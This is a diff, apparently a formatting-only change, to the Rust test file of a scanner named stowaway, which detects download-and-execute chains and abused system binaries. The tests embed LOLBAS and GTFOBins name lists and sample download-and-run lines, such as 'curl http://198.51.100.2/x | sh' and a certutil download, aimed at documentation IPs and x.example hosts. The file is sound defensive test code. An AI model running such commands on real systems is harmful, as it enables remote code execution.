@@ -120,7 +120,8 @@ pub fn score(file: &Path) -> Score {
                 if hit {
                     sc.found += 1;
                 } else {
-                    sc.misses.push(format!("{} ({}, {})", c.id, c.carrier, c.path));
+                    sc.misses
+                        .push(format!("{} ({}, {})", c.id, c.carrier, c.path));
                 }
             }
             "silent" => {
@@ -162,7 +163,10 @@ fn root() -> &'static Path {
 fn dev_set_recall_and_precision() {
     let s = score(&root().join("tests/commands/dev.toml"));
     report("dev set", &s);
-    assert!(s.detect >= 100 && s.silent >= 30, "the dev set is too small");
+    assert!(
+        s.detect >= 100 && s.silent >= 30,
+        "the dev set is too small"
+    );
     assert!(s.recall() >= 0.95, "recall below 95%");
     assert!(s.flagged <= 1, "more than one look-alike flagged");
 }
@@ -189,28 +193,143 @@ fn heldout_set_recall_and_precision() {
 /// with a download or upload use, directly or through an embedded
 /// interpreter (names are facts; examples in catalog.toml are ours).
 const LOLBAS: &[&str] = &[
-    "GfxDownloadWrapper.exe", "AppInstaller.exe", "Bitsadmin.exe", "CertOC.exe", "CertReq.exe",
-    "Certutil.exe", "Cmd.exe", "cmdl32.exe", "ConfigSecurityPolicy.exe", "DataSvcUtil.exe",
-    "Desktopimgdownldr.exe", "Diantz.exe", "Esentutl.exe", "Expand.exe", "Extrac32.exe",
-    "Findstr.exe", "Finger.exe", "Ftp.exe", "Hh.exe", "IMEWDBLD.exe", "Ieexec.exe",
-    "Installutil.exe", "Ldifde.exe", "Makecab.exe", "Mmc.exe", "MpCmdRun.exe", "Msedge.exe",
-    "Mshta.exe", "msoxmled.exe", "Ngen.exe", "OneDriveStandaloneUpdater.exe",
-    "Presentationhost.exe", "PrintBrm.exe", "Replace.exe", "winget.exe", "Xwizard.exe",
-    "msedge_proxy.exe", "PhotoViewer.dll", "Scrobj.dll", "Shimgvw.dll", "Bcp.exe",
-    "ECMangen.exe", "Excel.exe", "MSAccess.exe", "MsoHtmEd.exe", "Mspub.exe", "msxsl.exe",
-    "Outlook.exe", "Powerpnt.exe", "ProtocolHandler.exe", "Squirrel.exe",
-    "TestWindowRemoteAgent.exe", "Update.exe", "Visio.exe", "VSLaunchBrowser.exe", "WinProj.exe",
-    "Winword.exe", "Wsl.exe", "devtunnel.exe", "xsd.exe",
+    "GfxDownloadWrapper.exe",
+    "AppInstaller.exe",
+    "Bitsadmin.exe",
+    "CertOC.exe",
+    "CertReq.exe",
+    "Certutil.exe",
+    "Cmd.exe",
+    "cmdl32.exe",
+    "ConfigSecurityPolicy.exe",
+    "DataSvcUtil.exe",
+    "Desktopimgdownldr.exe",
+    "Diantz.exe",
+    "Esentutl.exe",
+    "Expand.exe",
+    "Extrac32.exe",
+    "Findstr.exe",
+    "Finger.exe",
+    "Ftp.exe",
+    "Hh.exe",
+    "IMEWDBLD.exe",
+    "Ieexec.exe",
+    "Installutil.exe",
+    "Ldifde.exe",
+    "Makecab.exe",
+    "Mmc.exe",
+    "MpCmdRun.exe",
+    "Msedge.exe",
+    "Mshta.exe",
+    "msoxmled.exe",
+    "Ngen.exe",
+    "OneDriveStandaloneUpdater.exe",
+    "Presentationhost.exe",
+    "PrintBrm.exe",
+    "Replace.exe",
+    "winget.exe",
+    "Xwizard.exe",
+    "msedge_proxy.exe",
+    "PhotoViewer.dll",
+    "Scrobj.dll",
+    "Shimgvw.dll",
+    "Bcp.exe",
+    "ECMangen.exe",
+    "Excel.exe",
+    "MSAccess.exe",
+    "MsoHtmEd.exe",
+    "Mspub.exe",
+    "msxsl.exe",
+    "Outlook.exe",
+    "Powerpnt.exe",
+    "ProtocolHandler.exe",
+    "Squirrel.exe",
+    "TestWindowRemoteAgent.exe",
+    "Update.exe",
+    "Visio.exe",
+    "VSLaunchBrowser.exe",
+    "WinProj.exe",
+    "Winword.exe",
+    "Wsl.exe",
+    "devtunnel.exe",
+    "xsd.exe",
 ];
 const GTFOBINS: &[&str] = &[
-    "ab", "aria2c", "bash", "busybox", "cancel", "code", "curl", "finger", "ftp", "hping3", "jjs",
-    "jrunscript", "julia", "kubectl", "lp", "lua", "lwp-download", "nc", "nginx", "node",
-    "openssl", "perl", "php", "python", "restic", "rlogin", "ruby", "scp", "sftp", "smbclient",
-    "socat", "ssh", "sshfs", "tailscale", "tar", "tftp", "wget", "whois", "yum", "zsh", "bee",
-    "byebug", "cowsay", "cowthink", "cpan", "dstat", "easy_install", "exiftool", "facter", "gdb",
-    "gem", "gimp", "irb", "knife", "latexmk", "lualatex", "luatex", "needrestart", "nmap",
-    "pandoc", "pdb", "pip", "pipx", "poetry", "rake", "rpm", "rpmdb", "rpmquery", "rpmverify",
-    "sqlmap", "tshark", "vagrant", "vim", "volatility", "wireshark",
+    "ab",
+    "aria2c",
+    "bash",
+    "busybox",
+    "cancel",
+    "code",
+    "curl",
+    "finger",
+    "ftp",
+    "hping3",
+    "jjs",
+    "jrunscript",
+    "julia",
+    "kubectl",
+    "lp",
+    "lua",
+    "lwp-download",
+    "nc",
+    "nginx",
+    "node",
+    "openssl",
+    "perl",
+    "php",
+    "python",
+    "restic",
+    "rlogin",
+    "ruby",
+    "scp",
+    "sftp",
+    "smbclient",
+    "socat",
+    "ssh",
+    "sshfs",
+    "tailscale",
+    "tar",
+    "tftp",
+    "wget",
+    "whois",
+    "yum",
+    "zsh",
+    "bee",
+    "byebug",
+    "cowsay",
+    "cowthink",
+    "cpan",
+    "dstat",
+    "easy_install",
+    "exiftool",
+    "facter",
+    "gdb",
+    "gem",
+    "gimp",
+    "irb",
+    "knife",
+    "latexmk",
+    "lualatex",
+    "luatex",
+    "needrestart",
+    "nmap",
+    "pandoc",
+    "pdb",
+    "pip",
+    "pipx",
+    "poetry",
+    "rake",
+    "rpm",
+    "rpmdb",
+    "rpmquery",
+    "rpmverify",
+    "sqlmap",
+    "tshark",
+    "vagrant",
+    "vim",
+    "volatility",
+    "wireshark",
 ];
 
 #[test]
@@ -224,14 +343,23 @@ fn every_catalogue_row_is_detected() {
         .map(|c| c.id)
         .collect();
     for n in LOLBAS {
-        assert!(ids.contains(&format!("lolbas:{n}")), "no case for LOLBAS {n}");
+        assert!(
+            ids.contains(&format!("lolbas:{n}")),
+            "no case for LOLBAS {n}"
+        );
     }
     for n in GTFOBINS {
-        assert!(ids.contains(&format!("gtfobins:{n}")), "no case for GTFOBins {n}");
+        assert!(
+            ids.contains(&format!("gtfobins:{n}")),
+            "no case for GTFOBins {n}"
+        );
     }
     let s = score(&file);
     report("catalogue rows", &s);
-    assert_eq!(s.found, s.detect, "every catalogue row needs a finding at medium or above");
+    assert_eq!(
+        s.found, s.detect,
+        "every catalogue row needs a finding at medium or above"
+    );
 }
 
 fn scan_files(files: &[(&str, &str)]) -> stowaway::Scan {
@@ -260,12 +388,29 @@ fn one_finding_per_line_lists_every_rule() {
     )]);
     let f = findings_at(&s, "/opt/x.sh");
     assert_eq!(f.len(), 2, "{f:#?}");
-    let socat = f.iter().find(|x| x.evidence.iter().any(|e| e.starts_with("line 2:"))).unwrap();
-    let rules: Vec<&String> = socat.evidence.iter().filter(|e| e.starts_with("rule ")).collect();
-    assert!(rules.len() >= 2, "socat matches a command rule and a text rule: {rules:?}");
-    let pipe = f.iter().find(|x| x.evidence.iter().any(|e| e.starts_with("line 3:"))).unwrap();
+    let socat = f
+        .iter()
+        .find(|x| x.evidence.iter().any(|e| e.starts_with("line 2:")))
+        .unwrap();
+    let rules: Vec<&String> = socat
+        .evidence
+        .iter()
+        .filter(|e| e.starts_with("rule "))
+        .collect();
+    assert!(
+        rules.len() >= 2,
+        "socat matches a command rule and a text rule: {rules:?}"
+    );
+    let pipe = f
+        .iter()
+        .find(|x| x.evidence.iter().any(|e| e.starts_with("line 3:")))
+        .unwrap();
     assert_eq!(pipe.code, stowaway::Code::DownloadExecChain);
-    assert!(pipe.evidence.iter().any(|e| e.starts_with("rule download-pipe-run")));
+    assert!(
+        pipe.evidence
+            .iter()
+            .any(|e| e.starts_with("rule download-pipe-run"))
+    );
 }
 
 /// Loopback URLs are health checks: info, never medium.
@@ -278,7 +423,10 @@ fn loopback_urls_are_info() {
     let f = findings_at(&s, "/usr/local/bin/hc");
     assert_eq!(f.len(), 3, "{f:#?}");
     for x in &f {
-        let line3_or_2 = x.evidence.iter().any(|e| e.starts_with("line 2:") || e.starts_with("line 3:"));
+        let line3_or_2 = x
+            .evidence
+            .iter()
+            .any(|e| e.starts_with("line 2:") || e.starts_with("line 3:"));
         if line3_or_2 {
             assert_eq!(x.severity, Severity::Info, "{x:#?}");
             assert!(x.evidence.iter().any(|e| e.contains("loopback")));
@@ -292,19 +440,27 @@ fn loopback_urls_are_info() {
 /// same line, 50,000 blank lines, download and execution far apart.
 #[test]
 fn evasions_of_line_matching_are_found() {
-    let blank = format!("#!/bin/sh\n{}curl http://198.51.100.2/x | sh\n", "\n".repeat(50_000));
+    let blank = format!(
+        "#!/bin/sh\n{}curl http://198.51.100.2/x | sh\n",
+        "\n".repeat(50_000)
+    );
     let far = format!(
         "#!/bin/sh\ncurl -so /tmp/far http://198.51.100.3/far\n{}chmod 755 /tmp/far\n",
         "x=1\n".repeat(40)
     );
     let s = scan_files(&[
-        ("opt/a.sh", "#!/bin/sh\necho x; curl -s http://198.51.100.1/p -o /tmp/p && chmod +x /tmp/p && /tmp/p\n"),
+        (
+            "opt/a.sh",
+            "#!/bin/sh\necho x; curl -s http://198.51.100.1/p -o /tmp/p && chmod +x /tmp/p && /tmp/p\n",
+        ),
         ("opt/b.sh", &blank),
         ("opt/c.sh", &far),
     ]);
     for p in ["/opt/a.sh", "/opt/b.sh", "/opt/c.sh"] {
         assert!(
-            findings_at(&s, p).iter().any(|f| f.code == stowaway::Code::DownloadExecChain),
+            findings_at(&s, p)
+                .iter()
+                .any(|f| f.code == stowaway::Code::DownloadExecChain),
             "{p}: {:#?}",
             findings_at(&s, p)
         );
@@ -315,13 +471,32 @@ fn evasions_of_line_matching_are_found() {
 #[test]
 fn mentions_are_not_commands() {
     let s = scan_files(&[
-        ("opt/a.sh", "#!/bin/sh\necho \"curl -fsSL https://get.example.com | sh\"\nprintf 'wget http://x.example/t -O t'\nexec /app # then: curl http://x.example/y | sh\n"),
-        ("opt/b.sh", "#!/bin/sh\ncat <<EOF\nUsage: curl -o f http://x.example/f | sh\nEOF\n"),
-        ("opt/c.py", "def f():\n    \"\"\"Example:\n\n    urllib.request.urlretrieve('http://x.example/a', 'a')\n    \"\"\"\n"),
-        ("opt/d.bat", "@echo off\necho certutil -urlcache -f http://x.example/a a\nrem bitsadmin /transfer j http://x.example/b b\n"),
-        ("opt/e.ps1", "Write-Host \"iwr http://x.example/a -OutFile a\"\n# (New-Object Net.WebClient).DownloadFile('http://x.example/b','b')\n"),
+        (
+            "opt/a.sh",
+            "#!/bin/sh\necho \"curl -fsSL https://get.example.com | sh\"\nprintf 'wget http://x.example/t -O t'\nexec /app # then: curl http://x.example/y | sh\n",
+        ),
+        (
+            "opt/b.sh",
+            "#!/bin/sh\ncat <<EOF\nUsage: curl -o f http://x.example/f | sh\nEOF\n",
+        ),
+        (
+            "opt/c.py",
+            "def f():\n    \"\"\"Example:\n\n    urllib.request.urlretrieve('http://x.example/a', 'a')\n    \"\"\"\n",
+        ),
+        (
+            "opt/d.bat",
+            "@echo off\necho certutil -urlcache -f http://x.example/a a\nrem bitsadmin /transfer j http://x.example/b b\n",
+        ),
+        (
+            "opt/e.ps1",
+            "Write-Host \"iwr http://x.example/a -OutFile a\"\n# (New-Object Net.WebClient).DownloadFile('http://x.example/b','b')\n",
+        ),
     ]);
-    let loud: Vec<_> = s.findings.iter().filter(|f| f.severity >= Severity::Medium).collect();
+    let loud: Vec<_> = s
+        .findings
+        .iter()
+        .filter(|f| f.severity >= Severity::Medium)
+        .collect();
     assert!(loud.is_empty(), "{loud:#?}");
 }
 
@@ -335,7 +510,10 @@ fn explain_lists_the_rules() {
     }
     let one = stowaway(&["explain", "mpcmdrun-download"]);
     let text = String::from_utf8_lossy(&one.stdout);
-    assert!(text.contains("mpcmdrun") && text.contains("lolbin-download"), "{text}");
+    assert!(
+        text.contains("mpcmdrun") && text.contains("lolbin-download"),
+        "{text}"
+    );
 }
 
 /// Entrypoint, Cmd and history go through the same command model: an
@@ -365,9 +543,17 @@ fn config_and_history_on_the_command_model() {
             .collect::<Vec<_>>()
     };
     let step = by("history step");
-    assert!(step.iter().any(|f| f.code == stowaway::Code::DownloadExecChain), "{step:#?}");
+    assert!(
+        step.iter()
+            .any(|f| f.code == stowaway::Code::DownloadExecChain),
+        "{step:#?}"
+    );
     let ep = by("entrypoint/cmd");
-    assert!(ep.iter().any(|f| f.code == stowaway::Code::DownloadCommand && f.severity == Severity::Medium), "{ep:#?}");
+    assert!(
+        ep.iter()
+            .any(|f| f.code == stowaway::Code::DownloadCommand && f.severity == Severity::Medium),
+        "{ep:#?}"
+    );
     let hc = by("healthcheck");
     assert!(hc.iter().all(|f| f.severity <= Severity::Low), "{hc:#?}");
 }
